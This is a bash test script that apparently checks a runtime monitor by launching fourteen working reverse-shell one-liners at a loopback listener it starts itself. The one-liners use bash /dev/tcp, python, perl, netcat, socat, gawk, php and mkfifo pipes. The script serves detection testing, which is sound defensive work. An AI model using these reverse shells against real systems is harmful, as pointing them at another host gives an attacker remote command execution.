#!/bin/bash
# simulate_reverse_shell.sh: real reverse-shell techniques against a listener on 127.0.0.1 that this
# script starts itself. Safe: nothing leaves the loopback interface; the listener answers every
# connection with "exit" and closes it, so each shell ends at once; every step is bounded in time;
# temp files are removed on exit. Expected alert for each variant: reverse_shell.
#
# Usage: simulate_reverse_shell.sh [--port N] [--list] [VARIANT...]
#   --port N   listen on 127.0.0.1:N (default: a random free port)
#   --list     print the variants and exit
#   VARIANT    run only these (default: all but the extra ones, which run only when named; a
#              variant whose tool is not installed is skipped)
# Env: RTMON_SIM_PIDS=FILE  append "reverse_shell PID VARIANT" (and "SKIP - VARIANT why") lines
set -u
here=$(cd "$(dirname "$0")" && pwd)
SIM_NAME=simulate_reverse_shell
# shellcheck source=sim_lib.sh
. "$here/sim_lib.sh"

VARIANTS=(bash_tcp python_dup_sh python_pty perl_socket nc_e ncat_exec socat_exec gawk_inet php_exec
	mkfifo_nc bash_fd_loop python_subprocess nc_pipe_pair bash_udp)
# Run only when named: techniques the default rules do not catch yet (none at the moment).
EXTRA_VARIANTS=()
port=0
SIM_ONLY=()
while [ $# -gt 0 ]; do
	case $1 in
	--port) port=$2; shift 2 ;;
	--port=*) port=${1#--port=}; shift ;;
	--list) printf '%s\n' "${VARIANTS[@]}"; [ ${#EXTRA_VARIANTS[@]} -eq 0 ] || printf '%s (only by name)\n' "${EXTRA_VARIANTS[@]}"; exit 0 ;;
	-h | --help) sed -n '2,12p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
	-*) echo "$SIM_NAME: unknown option $1" >&2; exit 2 ;;
	*) SIM_ONLY+=("$1"); shift ;;
	esac
done
sim_check_names "${VARIANTS[@]}" ${EXTRA_VARIANTS[@]+"${EXTRA_VARIANTS[@]}"}
command -v python3 > /dev/null || { echo "$SIM_NAME: needs python3" >&2; exit 2; }
PY=$(sim_python)

work=$(mktemp -d /tmp/rtmon-sim-rs.XXXXXX)
LPID=
cleanup() {
	[ -z "$LPID" ] || { kill "$LPID" 2> /dev/null; wait "$LPID" 2> /dev/null; }
	rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# The listener: 127.0.0.1 only; each connection gets "exit\n", then is closed at the client's EOF or
# after 5 s. It stops by itself after 120 s.
cat > "$work/listener.py" << 'EOF'
import socket, sys, threading, time
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(16)
with open(sys.argv[2] + ".tmp", "w") as f:
    f.write("%d\n" % s.getsockname()[1])
import os
os.rename(sys.argv[2] + ".tmp", sys.argv[2])
s.settimeout(1.0)
def serve(c):
    try:
        c.settimeout(5.0)
        c.sendall(b"exit\n")
        while c.recv(4096):
            pass
    except OSError:
        pass
    finally:
        c.close()
deadline = time.monotonic() + 120
while time.monotonic() < deadline:
    try:
        c, _ = s.accept()
    except socket.timeout:
        continue
    threading.Thread(target=serve, args=(c,), daemon=True).start()
EOF
"$PY" "$work/listener.py" "$port" "$work/port" &
LPID=$!
for _ in $(seq 100); do [ -s "$work/port" ] && break; sleep 0.05; done
[ -s "$work/port" ] || { echo "$SIM_NAME: the listener did not start" >&2; exit 1; }
PORT=$(cat "$work/port")
echo "listener: 127.0.0.1:$PORT (pid $LPID)"

# run_variant NAME PID: waits (bounded) for the acting process and records the expectation.
run_variant() {
	sim_expect reverse_shell "$2" "$1"
	sim_wait_pid "$2" 10 || true
}

# bash's /dev/tcp: bash connects out, dup2s the socket onto 0/1/2 and execs an interactive bash.
v_bash_tcp() {
	bash -c "exec bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1" < /dev/null > /dev/null 2>&1 &
	run_variant bash_tcp $!
}

# python: connect, dup2 the socket onto 0/1/2, exec /bin/sh (sh starts with a socket as stdin/stdout).
v_python_dup_sh() {
	"$PY" -c "import socket,os
s=socket.socket(); s.connect(('127.0.0.1',$PORT))
for f in (0,1,2): os.dup2(s.fileno(), f)
os.execv('/bin/sh', ['sh','-i'])" < /dev/null > /dev/null 2>&1 &
	run_variant python_dup_sh $!
}

# python + pty.spawn: the classic "upgraded" shell; python keeps the socket, sh gets a pty.
v_python_pty() {
	"$PY" -c "import socket,os,pty
s=socket.socket(); s.connect(('127.0.0.1',$PORT))
for f in (0,1,2): os.dup2(s.fileno(), f)
pty.spawn('/bin/sh')" < /dev/null > /dev/null 2>&1 &
	run_variant python_pty $!
}

v_perl_socket() {
	command -v perl > /dev/null || { sim_skip perl_socket "perl is not installed"; return; }
	perl -e 'use Socket; $p=shift; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
		if (connect(S,sockaddr_in($p,inet_aton("127.0.0.1")))) {
			open(STDIN,">&S"); open(STDOUT,">&S"); open(STDERR,">&S"); exec("/bin/sh","-i"); }' \
		"$PORT" < /dev/null > /dev/null 2>&1 &
	run_variant perl_socket $!
}

# nc -e: only the traditional netcat (and ncat) have it; the openbsd nc does not.
v_nc_e() {
	local nc
	nc=$(command -v nc.traditional || true)
	[ -n "$nc" ] || { sim_skip nc_e "nc.traditional (netcat-traditional) is not installed"; return; }
	"$nc" -e /bin/sh 127.0.0.1 "$PORT" < /dev/null > /dev/null 2>&1 &
	run_variant nc_e $!
}

v_ncat_exec() {
	command -v ncat > /dev/null || { sim_skip ncat_exec "ncat is not installed"; return; }
	ncat --exec /bin/sh 127.0.0.1 "$PORT" < /dev/null > /dev/null 2>&1 &
	run_variant ncat_exec $!
}

v_socat_exec() {
	command -v socat > /dev/null || { sim_skip socat_exec "socat is not installed"; return; }
	socat "TCP:127.0.0.1:$PORT" EXEC:/bin/sh < /dev/null > /dev/null 2>&1 &
	run_variant socat_exec $!
}

# gawk's /inet/tcp special file: awk itself talks to the listener and runs what it reads.
v_gawk_inet() {
	command -v gawk > /dev/null || { sim_skip gawk_inet "gawk is not installed (mawk has no /inet)"; return; }
	gawk -v p="$PORT" 'BEGIN { s = "/inet/tcp/0/127.0.0.1/" p
		while ((s |& getline c) > 0) { if (c == "exit") break
			while ((c | getline l) > 0) print l |& s; close(c) }
		close(s) }' < /dev/null > /dev/null 2>&1 &
	run_variant gawk_inet $!
}

# php: fsockopen, then exec() of "sh -c ... <&3 >&3": the sh that dup2s the socket (and execs an
# interactive sh on it) writes its own pid first, so the pid asserted is the acting one.
v_php_exec() {
	command -v php > /dev/null || { sim_skip php_exec "php is not installed"; return; }
	rm -f "$work/php.pid"
	php -r '$s = fsockopen("127.0.0.1", (int)$argv[1]); if (!$s) exit(1);
		exec("/bin/sh -c \"echo \\$\\$ > " . $argv[2] . "; exec /bin/sh -i <&3 >&3 2>&3\"");' \
		"$PORT" "$work/php.pid" < /dev/null > /dev/null 2>&1 &
	local php=$!
	for _ in $(seq 100); do [ -s "$work/php.pid" ] && break; sleep 0.05; done
	if [ ! -s "$work/php.pid" ]; then
		sim_note "php_exec: the shell did not start"
		sim_wait_pid "$php" 10 || true
		return
	fi
	run_variant php_exec "$(cat "$work/php.pid")"
	sim_wait_pid "$php" 10 || true
}

# mkfifo + plain nc (no -e): sh -i reads a fifo that nc fills from the socket, and writes into nc
# through a pipe. Neither end has a socket on its stdio; the alert comes from whichever of the two
# execs second (its stdio is a pipe to the other), so either pid is right: "SH|NC".
v_mkfifo_nc() {
	local nc sh
	nc=$(command -v nc.traditional || command -v nc || command -v ncat || true)
	[ -n "$nc" ] || { sim_skip mkfifo_nc "no nc/ncat installed"; return; }
	mkfifo "$work/f"
	bash -c 'echo $$ > "$1.pid"; exec /bin/sh -i < "$1" 2>&1' sh "$work/f" | "$nc" 127.0.0.1 "$PORT" > "$work/f" &
	local pipe=$!
	for _ in $(seq 100); do [ -s "$work/f.pid" ] && break; sleep 0.05; done
	sh=$(cat "$work/f.pid" 2> /dev/null)
	run_variant mkfifo_nc "${sh:+$sh|}$pipe"
	rm -f "$work/f" "$work/f.pid"
}

# bash keeps the socket on fd 5 and runs each line it reads, its own stdio untouched (no dup onto
# 0/1): only the connect shows it.
v_bash_fd_loop() {
	bash -c "exec 5<>/dev/tcp/127.0.0.1/$PORT; while read -r l <&5; do [ \"\$l\" = exit ] && break; eval \"\$l\" >&5 2>&5; done" \
		< /dev/null > /dev/null 2>&1 &
	run_variant bash_fd_loop $!
}

# python keeps running and starts sh as a child with the socket as its stdio (subprocess, no exec):
# the sh writes its own pid first.
v_python_subprocess() {
	rm -f "$work/sub.pid"
	"$PY" -c "import socket, subprocess, sys
s = socket.socket(); s.connect(('127.0.0.1', $PORT))
subprocess.call(['/bin/sh', '-c', 'echo \$\$ > $work/sub.pid; exec /bin/sh -i'], stdin=s, stdout=s, stderr=s)" \
		< /dev/null > /dev/null 2>&1 &
	local py=$!
	for _ in $(seq 100); do [ -s "$work/sub.pid" ] && break; sleep 0.05; done
	if [ -s "$work/sub.pid" ]; then run_variant python_subprocess "$(cat "$work/sub.pid")"; fi
	sim_wait_pid "$py" 10 || true
}

# Two connections, no -e and no fifo: nc | sh | nc. The sh's stdin and stdout are pipes to the two nc
# processes; whichever of the three execs last sees the others through its pipes: "SH|NC1|NC2".
v_nc_pipe_pair() {
	local nc sh
	nc=$(command -v nc.traditional || command -v nc || command -v ncat || true)
	[ -n "$nc" ] || { sim_skip nc_pipe_pair "no nc/ncat installed"; return; }
	rm -f "$work/pp.pid" "$work/pp.nc"
	bash -c "\"$nc\" 127.0.0.1 $PORT & echo \$! > $work/pp.nc; wait" < /dev/null 2> /dev/null |
		bash -c 'echo $$ > "$1"; exec /bin/sh' sh "$work/pp.pid" 2>&1 | "$nc" 127.0.0.1 "$PORT" > /dev/null 2>&1 &
	local last=$!
	for _ in $(seq 100); do [ -s "$work/pp.pid" ] && [ -s "$work/pp.nc" ] && break; sleep 0.05; done
	sh=$(cat "$work/pp.pid" 2> /dev/null)
	run_variant nc_pipe_pair "${sh:+$sh|}$(cat "$work/pp.nc" 2> /dev/null)|$last"
}

# bash's /dev/udp: an interactive bash on a UDP socket (nothing answers; it is stopped after 1 s).
v_bash_udp() {
	bash -c "exec bash -i >& /dev/udp/127.0.0.1/$PORT 0>&1" < /dev/null > /dev/null 2>&1 &
	local b=$!
	sim_expect reverse_shell "$b" bash_udp
	sleep 1
	kill -KILL "$b" 2> /dev/null
	wait "$b" 2> /dev/null || true
}

for v in "${VARIANTS[@]}"; do
	sim_selected "$v" || continue
	"v_$v"
done
for v in ${EXTRA_VARIANTS[@]+"${EXTRA_VARIANTS[@]}"}; do
	[ "${#SIM_ONLY[@]}" -gt 0 ] && sim_selected "$v" && "v_$v"
done
echo "$SIM_NAME: done"
